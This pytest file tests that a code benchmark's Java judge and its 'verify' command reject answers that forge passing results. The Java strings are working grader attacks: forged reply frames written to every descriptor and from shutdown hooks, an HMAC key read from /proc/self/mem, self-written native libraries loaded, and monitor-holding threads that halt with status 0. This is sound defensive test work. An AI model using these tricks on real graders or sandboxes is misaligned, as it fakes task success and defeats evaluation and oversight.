"""The runner's reply channel (issue 49): a judged Java program that writes a reply of its own, one
that says its test returned and printed the right output, by every route Java offers (the JVM's
standard output and error through ``FileDescriptor``, ``/dev/stdout``, ``/proc/self/fd/1``, every
descriptor it inherited, a thread still writing after its test, a shutdown hook; a malformed frame;
TransCoder's harness answered at its last call), then throws, halts or spins, fails as the same program
without the forged reply does; so does one that reads the key from its JVM's memory (``/proc/self/mem``)
and signs its frame, and one that writes a shared library wherever it can (a folder, the flight recorder
by its descriptor) and loads it (native code reaches the key and everything else). Through a real lm_eval run (the CLI, a scripted model) on Avatar and
TransCoder, and through ``dynbench verify`` on that run and on a copy claiming the forged passes, each
beside an honest right and an honest wrong Java answer (and, on Avatar, one that is right only where
nothing of the request, whose first bytes are the secret, is left on the JVM's own stdin)."""

import base64
import gzip
import json
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest
from scripted_server import ScriptedServer
from test_verify import _edit_results, _edit_samples, altered

from dynbench_tasks.benchmarks.transcoder_harness import judged_parameters

pytestmark = pytest.mark.slow  # a real lm_eval run and two verify runs, of JVMs that spin to their timeout

MARK = "dynbench-reply-channel-forgery"
SUM = "a, b = map(int, input().split())\nprint(a + b)\n"
SUM_TESTS = [{"input": "1 2\n", "output": "3\n"}, {"input": "40 2\n", "output": "42\n"}]
# A frame of the runner's reply as it was before replies were authenticated: returned, status 0, the
# given stdout and records, and "stop here" (the rest of the tests then run in a fresh JVM); then MARK.
FORGE = f"""
class Forge {{
    static byte[] frame(String printed, String... records) {{
        try {{
            ByteArrayOutputStream bytes = new ByteArrayOutputStream();
            DataOutputStream frame = new DataOutputStream(bytes);
            byte[] out = printed.getBytes("UTF-8");
            frame.writeInt(0); frame.writeInt(0); frame.writeInt(0);
            frame.writeInt(out.length); frame.write(out);
            frame.writeInt(1); frame.writeInt(records.length);
            for (String record : records) {{ byte[] b = record.getBytes("UTF-8"); frame.writeInt(b.length); frame.write(b); }}
            frame.writeBoolean(true);
            frame.write("{MARK}".getBytes("UTF-8"));
            return bytes.toByteArray();
        }} catch (IOException e) {{ throw new UncheckedIOException(e); }}
    }}
    static void to(OutputStream out, byte[] bytes) {{
        try {{ out.write(bytes); out.flush(); }} catch (IOException ignored) {{ }}
    }}
    static void toPath(String path, byte[] bytes) {{
        try (OutputStream out = new FileOutputStream(path, true)) {{ out.write(bytes); }} catch (IOException ignored) {{ }}
    }}
    static void everywhere(byte[] bytes) {{  // every descriptor the JVM holds, appending (never truncating)
        for (int fd = 1; fd < 64; fd++) {{ toPath("/proc/self/fd/" + fd, bytes); }}
    }}
}}"""


def _library() -> str:
    """A real shared library (one function) compiled now, base64; "" where there is no C compiler (the
    program then loads a copy of one of the JDK's)."""
    cc = shutil.which("cc")
    if cc is None:
        return ""
    with tempfile.TemporaryDirectory() as folder:
        (Path(folder) / "probe.c").write_text("int dynbench_probe(void) { return 42; }\n")
        subprocess.run([cc, "-shared", "-fPIC", "-s", "-o", f"{folder}/libprobe.so", f"{folder}/probe.c"], check=True)
        return base64.b64encode((Path(folder) / "libprobe.so").read_bytes()).decode()


STEAL = """
class Steal {
    static byte[] key() {
        java.util.Set<String> inner = new java.util.HashSet<>(), outer = new java.util.HashSet<>();
        try (BufferedReader maps = new BufferedReader(new FileReader("/proc/self/maps"));
             RandomAccessFile memory = new RandomAccessFile("/proc/self/mem", "r")) {
            byte[] chunk = new byte[1 << 20];
            for (String line; (line = maps.readLine()) != null; ) {
                String[] fields = line.split("\\\\s+");
                if (!fields[1].startsWith("rw")) continue;
                String[] range = fields[0].split("-");
                long start = Long.parseUnsignedLong(range[0], 16), end = Long.parseUnsignedLong(range[1], 16);
                for (long at = start; at < end; at += chunk.length - 64) {
                    int size = (int) Math.min(chunk.length, end - at);
                    try { memory.seek(at); memory.readFully(chunk, 0, size); } catch (IOException unreadable) { break; }
                    for (int i = 0; i + 64 <= size; i += 8) {
                        if (padded(chunk, i, 0x36)) inner.add(xor(chunk, i, 0x36));
                        else if (padded(chunk, i, 0x5c)) outer.add(xor(chunk, i, 0x5c));
                    }
                }
            }
        } catch (IOException | RuntimeException unreadable) {
            return null;
        }
        inner.retainAll(outer);
        inner.remove("0".repeat(64));
        return inner.isEmpty() ? null : java.util.HexFormat.of().parseHex(inner.iterator().next());
    }
    static boolean padded(byte[] chunk, int at, int pad) {
        for (int i = at + 32; i < at + 64; i++) if (chunk[i] != (byte) pad) return false;
        return true;
    }
    static String xor(byte[] chunk, int at, int pad) {
        byte[] key = new byte[32];
        for (int i = 0; i < 32; i++) key[i] = (byte) (chunk[at + i] ^ pad);
        return java.util.HexFormat.of().formatHex(key);
    }
    static byte[] signed(byte[] frame, int number, byte[] key) throws Exception {
        javax.crypto.Mac mac = javax.crypto.Mac.getInstance("HmacSHA256");
        mac.init(new javax.crypto.spec.SecretKeySpec(key, "HmacSHA256"));
        mac.update(new byte[] {(byte) (number >>> 24), (byte) (number >>> 16), (byte) (number >>> 8), (byte) number});
        byte[] tag = mac.doFinal(frame);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        new DataOutputStream(out).writeInt(frame.length);
        out.write(frame);
        out.write(tag);
        return out.toByteArray();
    }
}"""

NATIVE = """
class Native {
    static boolean loaded(String library) throws IOException {
        byte[] bytes = library.isEmpty()  // no C compiler where the test ran: a library of the JDK's
            ? java.nio.file.Files.readAllBytes(java.nio.file.Path.of(System.getProperty("java.home"), "lib", "libjsig.so"))
            : java.util.Base64.getDecoder().decode(library);
        java.util.List<String> places = new java.util.ArrayList<>(java.util.List.of("/tmp", "/dev/shm", "/var/tmp",
            "/run", "/run/dynbench-channel", ".", System.getProperty("java.io.tmpdir"), System.getProperty("user.home")));
        for (int fd = 0; fd < 64; fd++) {
            places.add("/proc/self/fd/" + fd);
            places.add("/proc/" + ProcessHandle.current().pid() + "/fd/" + fd);
            places.add("/dev/fd/" + fd);
        }
        places.add("/run/dynbench-channel/recorder");
        for (String place : places) {
            File file = new File(place);
            if (file.isDirectory()) file = new File(file, "libattack.so");
            else if (!file.isFile()) continue;
            try (RandomAccessFile out = new RandomAccessFile(file, "rw")) {
                byte[] kept = new byte[(int) Math.min(bytes.length, out.length())];
                out.readFully(kept);
                out.seek(0);
                out.write(bytes);
                try {
                    System.load(file.getAbsolutePath());
                    return true;
                } catch (UnsatisfiedLinkError refused) {  // or it is: by this JVM's test before
                    if (String.valueOf(refused.getMessage()).contains("already loaded")) return true;
                } finally {
                    out.seek(0);
                    out.write(kept);
                }
            } catch (IOException | RuntimeException refused) {
            }
        }
        return false;
    }
}"""


# The number of a JVM's first test frame: frame 0 says the runner is ready. A forged frame says "stop
# here", so every test it answers is the first of a fresh JVM.
FIRST_TEST_FRAME = 1


def _sum(attack: str, printed: str = "a + b", helpers: str = "", prints: str = "") -> str:
    """A Java answer to SUM that prints ``printed`` (or runs ``prints``, which prints), then runs ``attack``
    (with ``fake``, the forged frame); ``helpers``: more classes it needs."""
    prints = prints or f"System.out.println({printed});\n        System.out.flush();"
    return (f"```java\nimport java.io.*;\nimport java.util.*;\npublic class Main {{\n    public static void main("
            f"String[] args) throws Exception {{\n        Scanner in = new Scanner(System.in);\n        long a = "
            f"in.nextLong(), b = in.nextLong();\n        {prints}\n"
            f"        byte[] fake = Forge.frame((a + b) + \"\\n\");\n        {attack}\n    }}\n}}\n{FORGE}{helpers}\n```")


STDOUT = "new FileOutputStream(FileDescriptor.out)"
THROW = "throw new IllegalStateException();"
AVATAR_ATTACKS = {  # each prints the right sum, forges a reply saying so, and then fails (the status it must get)
    "FileDescriptor.out, then throws": (_sum(f"Forge.to({STDOUT}, fake); {THROW}"), "runtime_error"),
    "FileDescriptor.out, then halt(3)": (_sum(f"Forge.to({STDOUT}, fake); Runtime.getRuntime().halt(3);"),
                                         "runtime_error"),
    "FileDescriptor.out, then spins": (_sum(f"Forge.to({STDOUT}, fake); while (true) {{ }}"), "timeout"),
    # on the last test only: the runner's reply to the first is read whole
    "a malformed frame (-1), then throws": (_sum(f"if (a == 40) {{ Forge.to({STDOUT}, new byte[] {{-1, -1, -1, -1}});"
                                                 f" {THROW} }}"), "runtime_error"),
    # the judge sends FileDescriptor.out to the test's stdout, however spelt; a frame written there is printed text
    "FileDescriptor.out held in a variable, then throws": (
        _sum(f"FileDescriptor out = FileDescriptor.out; Forge.to(new FileOutputStream(out), fake); {THROW}"),
        "runtime_error"),
    # as plain java prints the forged frame after the sum
    "FileDescriptor.out, then returns": (_sum(f"Forge.to({STDOUT}, fake);"), "wrong_output"),
    "FileDescriptor.out held in a variable, then returns": (
        _sum("FileDescriptor out = FileDescriptor.out; Forge.to(new FileOutputStream(out), fake);"), "wrong_output"),
    "FileDescriptor.err, then throws": (_sum(f"Forge.to(new FileOutputStream(FileDescriptor.err), fake); {THROW}"),
                                        "runtime_error"),
    "/dev/stdout, then throws": (_sum(f'Forge.toPath("/dev/stdout", fake); {THROW}'), "runtime_error"),
    "/proc/self/fd/1, then throws": (_sum(f'Forge.toPath("/proc/self/fd/1", fake); {THROW}'), "runtime_error"),
    "every inherited descriptor, then throws": (_sum(f"Forge.everywhere(fake); {THROW}"), "runtime_error"),
    "a thread still writing after its test": (_sum(
        "java.util.concurrent.CountDownLatch wrote = new java.util.concurrent.CountDownLatch(1);\n"
        f"        Thread writer = new Thread(() -> {{ while (true) {{ Forge.to({STDOUT}, fake); Forge.everywhere(fake);"
        " wrote.countDown(); try { Thread.sleep(2); } catch (InterruptedException e) { } } });\n"
        f"        writer.setDaemon(true); writer.start(); wrote.await(); {THROW}"), "runtime_error"),
    # a runner that cannot read the shutdown hooks ends the JVM for real with the test's status, which the
    # manager turns into 0 (red team 9); no security manager may be installed now
    "a security manager that turns the runner's exit with 3 into status 0": (_sum(
        "System.setSecurityManager(new SecurityManager() {\n"
        "            public void checkPermission(java.security.Permission p) {\n"
        "                if (!(p instanceof java.lang.reflect.ReflectPermission)) return;\n"
        "                for (StackTraceElement e : new Throwable().getStackTrace())\n"
        "                    if (e.getMethodName().equals(\"registeredShutdownHooks\")) throw new SecurityException(); }\n"
        "            public void checkExit(int status) { if (status != 0) Runtime.getRuntime().halt(0); } });\n"
        "        System.exit(3);"), "runtime_error"),
    "a shutdown hook, as the program exits with 3": (_sum(
        f"Runtime.getRuntime().addShutdownHook(new Thread(() -> {{ Forge.to({STDOUT}, fake); Forge.everywhere(fake); "
        "}));\n        System.exit(3);"), "runtime_error"),
    "the key from its JVM's memory, a frame signed with it, then throws": (_sum(
        f"byte[] key = Steal.key();\n        if (key != null) {{ Forge.everywhere(Steal.signed(fake, {FIRST_TEST_FRAME}, key)); }}"
        f"\n        {THROW}", helpers=STEAL), "runtime_error"),
    # native code could do anything (sign a frame, write the runner's memory); that it loaded is enough here
    "a shared library it wrote, loaded, or it throws": (_sum(f'if (!Native.loaded("{_library()}")) {{ {THROW} }}',
                                                             helpers=NATIVE), "runtime_error"),
}
HALT_0 = 'Runtime.class.getMethod("halt", int.class).invoke(Runtime.getRuntime(), 0);'  # past the source rewrite
SPIN = "while (true) { }"
RUNNER_THREAD = ('Thread runner = null;\n        for (Thread thread : Thread.getAllStackTraces().keySet()) '
                 '{ if (thread.getName().equals("main")) { runner = thread; } }\n        final Thread held = runner;')


def _halts_later(held: str, then: str, seconds: float, suspends: bool = False, helpers: str = "") -> str:
    """An answer that prints the right sum, then (a thread outside its test's group) holds the monitor of
    ``held`` or suspends that thread, and ends the JVM with status 0 after ``seconds``, while main runs ``then``:
    where that kept the runner from replying, the JVM's status 0 stood for the test (red team 3)."""
    hold = "held.suspend(); sleepThenHalt();" if suspends else "synchronized (held) { sleepThenHalt(); }"
    blocker = (f"{held}\n        Thread blocker = new Thread(Thread.currentThread().getThreadGroup().getParent(), () -> "
               f"{{ {hold} }});\n        blocker.setDaemon(true); blocker.start(); Thread.sleep(50); {then}")
    later = (f"class Later {{ static void sleepThenHalt() {{ try {{ Thread.sleep({int(seconds * 1000)}); {HALT_0} }} "
             "catch (Exception ignored) { } } }")
    return _sum(blocker.replace("sleepThenHalt()", "Later.sleepThenHalt()"), helpers=f"{later}\n{helpers}")


# A throwable of the program's that wraps another as the JDK's wrappers do, and never answers getCause()
STALL = ("class Stall extends ExceptionInInitializerError { public Throwable getCause() { "
         "try { Thread.sleep(Long.MAX_VALUE); } catch (InterruptedException e) { } return null; } }")


AVATAR_ATTACKS.update({  # the runner kept from replying while a thread ends the JVM with status 0
    "Record's monitor held, then halt(0), as main throws": (
        _halts_later("final Object held = dynbench.Record.class;", THROW, 1.5), "runtime_error"),
    "its test group's monitor held, then halt(0), as main throws": (
        _halts_later("final Object held = Thread.currentThread().getThreadGroup();", THROW, 1.5), "runtime_error"),
    "its main thread's monitor held, then halt(0) past the time limit, as main spins": (
        _halts_later("final Object held = Thread.currentThread();", SPIN, 4.5), "timeout"),
    "the runner's thread suspended, then halt(0), as main throws": (
        _halts_later(RUNNER_THREAD, THROW, 1.5, suspends=True), "runtime_error"),
    "the runner's thread suspended, then halt(0) past the time limit, as main spins": (
        _halts_later(RUNNER_THREAD, SPIN, 4.5, suspends=True), "timeout"),
    "a throwable whose getCause() never returns, then halt(0), as main throws it": (
        _halts_later("final Object held = new Object();", "throw new Stall();", 1.5, helpers=STALL), "runtime_error"),
})
AVATAR_CONTROLS = {"honest right": (_sum(""), "passed"), "honest wrong": (_sum("", "a + b + 1"), "wrong_output"),
                   # right only where nothing of the request (the secret first) is left on the JVM's own stdin
                   "honest, reading the JVM's own stdin": (_sum("", "new FileInputStream(FileDescriptor.in).read() == -1"
                                                                " ? a + b : -1"), "passed"),
                   # the fast-output idioms: the JVM's own fd 1 is not the test's stdout
                   "honest, the fast-output idiom": (_sum("", prints=(
                       f"PrintWriter out = new PrintWriter(new BufferedOutputStream({STDOUT}));\n"
                       "        out.println(a + b);\n        out.close();")), "passed"),
                   "honest, System.out made FileDescriptor.out": (_sum("", prints=(
                       "System.setOut(new PrintStream(new BufferedOutputStream(new java.io.FileOutputStream("
                       "java.io.FileDescriptor.out)), false));\n        System.out.println(a + b);\n"
                       "        System.out.flush();")), "passed"),
                   "honest, the idiom's stream declared and closed twice": (_sum("", prints=(
                       f"FileOutputStream raw = {STDOUT};\n        raw.write((a + b + \"\\n\").getBytes());\n"
                       "        raw.close(); raw.close();")), "passed"),
                   # fd 1 another way (red team 8): a descriptor whose bytes are the test's stdout, as fd 1's are
                   "honest, a FileWriter on FileDescriptor.out": (_sum("", prints=(
                       "Writer w = new FileWriter(FileDescriptor.out);\n        w.write(a + b + \"\\n\");\n"
                       "        w.close();")), "passed")}
TRANSCODER_ID = "ADD_1_TO_A_GIVEN_NUMBER"


def _add_one(calls: int) -> dict[str, tuple[str, str]]:
    """TransCoder answers for ADD_1_TO_A_GIVEN_NUMBER, whose harness makes ``calls`` calls: one that
    returns each right value, collects them (in a system property: only methods are kept) and, at the
    harness's last call, forges the reply those values would give and throws; and the honest two."""
    forged = (
        "static int addOne(int x) {\n"
        '    String seen = System.getProperty("seen", "") + "i:" + (x + 1) + ",";\n'
        '    System.setProperty("seen", seen);\n'
        f'    if (seen.split(",").length == {calls}) {{\n'
        f'        Forge.to({STDOUT}, Forge.frame("", seen.split(",")));\n'
        f"        {THROW}\n"
        "    }\n"
        "    return x + 1;\n"
        "}\n")
    helpers = "\n".join(FORGE.split("\n")[2:-1]).replace("Forge.", "")  # the harness keeps methods only
    fenced = "```java\nimport java.io.*;\n{}\n```".format
    return {"forged at the harness's last call": (fenced(forged.replace("Forge.", "") + helpers), "runtime_error"),
            "honest right": (fenced("static int addOne(int x) { return x + 1; }"), "passed"),
            "honest wrong": (fenced("static int addOne(int x) { return x + 2; }"), "wrong_output")}


@pytest.fixture(scope="module")
def problems(tmp_path_factory) -> tuple[Path, dict[str, dict[str, tuple[str, str]]]]:
    """A data folder with SUM as an Avatar problem and TransCoder's ADD_1_TO_A_GIVEN_NUMBER, and the
    answers to each (name -> (reply, status it must get))."""
    folder = tmp_path_factory.mktemp("reply-channel-data")
    avatar = {"id": "atcoder_ABC999_A", "python": SUM, "java": AVATAR_CONTROLS["honest right"][0], "tests": SUM_TESTS}
    (folder / "avatar_py2java.jsonl").write_text(json.dumps(avatar) + "\n")
    bundled = Path(__file__).resolve().parents[1] / "dynbench_tasks" / "data" / "transcoder_py2java.jsonl.gz"
    with gzip.open(bundled, "rt", encoding="utf-8") as lines:
        add_one = next(record for record in map(json.loads, lines) if record["id"] == TRANSCODER_ID)
    (folder / "transcoder_py2java.jsonl").write_text(json.dumps(add_one) + "\n")
    calls = len(judged_parameters(add_one["java_harness"]))
    return folder, {"avatar_orig": {**AVATAR_ATTACKS, **AVATAR_CONTROLS}, "transcoder_orig": _add_one(calls)}


REPEATS = len(AVATAR_ATTACKS) + len(AVATAR_CONTROLS)


@pytest.fixture(scope="module")
def run(tmp_path_factory, problems) -> tuple[Path, str]:
    """A real lm_eval CLI run of avatar_orig and transcoder_orig on the scripted answers: (its folder, stderr)."""
    folder, answers = problems
    out = tmp_path_factory.mktemp("reply-channel-run")
    replies = {task: [reply for reply, _ in named.values()] for task, named in answers.items()}

    def answer(prompt: str, sample: int) -> str:
        task = "avatar_orig" if f"```python\n{SUM}\n```" in prompt else "transcoder_orig"
        return replies[task][sample % len(replies[task])]

    with ScriptedServer(answer) as server:
        done = subprocess.run(
            [sys.executable, "-m", "lm_eval", "--model", "local-completions", "--model_args",
             f"model=scripted,base_url={server.url}/completions,tokenizer_backend=none,tokenized_requests=False",
             "--tasks", "avatar_orig,transcoder_orig", "--confirm_run_unsafe_code", "--log_samples",
             "--output_path", str(out), "--metadata",
             json.dumps({"data_dir": str(folder), "seed": 3, "repeats": REPEATS, "timeout": 3})],
            capture_output=True, text=True, cwd=out)
    assert done.returncode == 0, done.stderr[-3000:]
    return out, done.stderr


def _statuses(folder: Path, task: str) -> list[str]:
    (sample,) = [json.loads(line) for line in next(folder.rglob(f"samples_{task}_*.jsonl")).read_text().splitlines()]
    return [json.loads(status)["status"] for status in sample["filtered_resps"][0]]


@pytest.mark.parametrize("task", ["avatar_orig", "transcoder_orig"])
def test_a_forged_reply_fails_as_the_program_without_it_does(run, problems, task):
    folder, _ = run
    named = problems[1][task]
    judged = dict(zip(named, _statuses(folder, task), strict=False))
    assert judged == {name: status for name, (_, status) in named.items()}


def test_nothing_a_program_forges_reaches_the_log(run):
    _, stderr = run
    assert MARK not in stderr and "Traceback" not in stderr, stderr[-3000:]


def _verify(folder: Path, data: Path) -> tuple[int, list[str]]:
    done = subprocess.run([sys.executable, "-m", "dynbench_tasks.cli", "verify", str(folder), "--data-dir", str(data)],
                          capture_output=True, text=True, timeout=600)
    assert "Traceback" not in done.stderr and MARK not in done.stderr, done.stderr[-3000:]
    return done.returncode, done.stdout.splitlines()


def _claim_passed(folder: Path, task: str, forged: list[bool]) -> None:
    """The run in ``folder`` claiming that every answer ``forged`` marks (cyclically, as the scripted
    model gave them) passed, with the scores that follow (as test_verify's careful attacker claims them)."""
    from dynbench_tasks.scoring import process_results

    def passed(samples):
        statuses = samples[0]["filtered_resps"][0]
        for index, status in enumerate(statuses):
            if forged[index % len(forged)]:
                statuses[index] = json.dumps({**json.loads(status), "status": "passed"})

    _edit_samples(folder, task, passed)
    earned = {}

    def rescore(samples):
        for sample in samples:
            sample.update(process_results(sample["doc"], sample["filtered_resps"]))
            for metric in ("pass@1", "pass@5"):
                earned.setdefault(metric, []).append(sample[metric])

    _edit_samples(folder, task, rescore)
    _edit_results(folder, lambda results: results["results"][task].update(
        {f"{metric},judge": sum(values) / len(values) for metric, values in earned.items()}))


# What the judge before authenticated replies (5781c42) gave these forgeries: passed. The other four routes
# were shut already (the JVM's stdout pipe could not be opened anew as the sandbox's user).
PASSED_BEFORE = {"FileDescriptor.out, then throws", "FileDescriptor.out, then halt(3)", "FileDescriptor.out, then spins",
                 "a malformed frame (-1), then throws", "a thread still writing after its test",
                 "a shutdown hook, as the program exits with 3", "forged at the harness's last call",
                 # and before a runner's sandbox lost /proc (its frames then numbered from 0): passed
                 "the key from its JVM's memory, a frame signed with it, then throws",
                 "a shared library it wrote, loaded, or it throws",
                 # and before the runner waited on no monitor a program can hold nor called its code before a test
                 # ended (2c59abd; the getCause() one on 2c59abd too): passed
                 *(name for name in AVATAR_ATTACKS if "halt(0)" in name),
                 # and before the runner's JVMs refused a security manager (d9da0a1): passed
                 "a security manager that turns the runner's exit with 3 into status 0"}


def test_verify_judges_forged_replies_as_failures(run, problems, tmp_path):
    """verify rejudges the run and agrees; a copy claiming what the judge before gave the forgeries
    (they passed; statuses and scores, as a careful attacker claims them) fails, on both tasks, with
    every answer's status as judged here."""
    folder, _ = run
    data, answers = problems
    code, lines = _verify(folder, data)
    assert code == 0 and len(lines) == 2 and all("FAILED" not in line for line in lines), lines

    def claim_forged_passes(copy: Path) -> None:
        for task, named in answers.items():
            _claim_passed(copy, task, [name in PASSED_BEFORE for name in named])

    code, lines = _verify(altered(folder, tmp_path, claim_forged_passes), data)
    assert code == 1 and len(lines) == 2, lines
    for task, named in answers.items():
        judged = [status for _, status in named.values()] * REPEATS
        line = next(line for line in lines if line.startswith(f"{task} "))
        assert "FAILED" in line and f"answers score {judged[:REPEATS]} here" in line, line
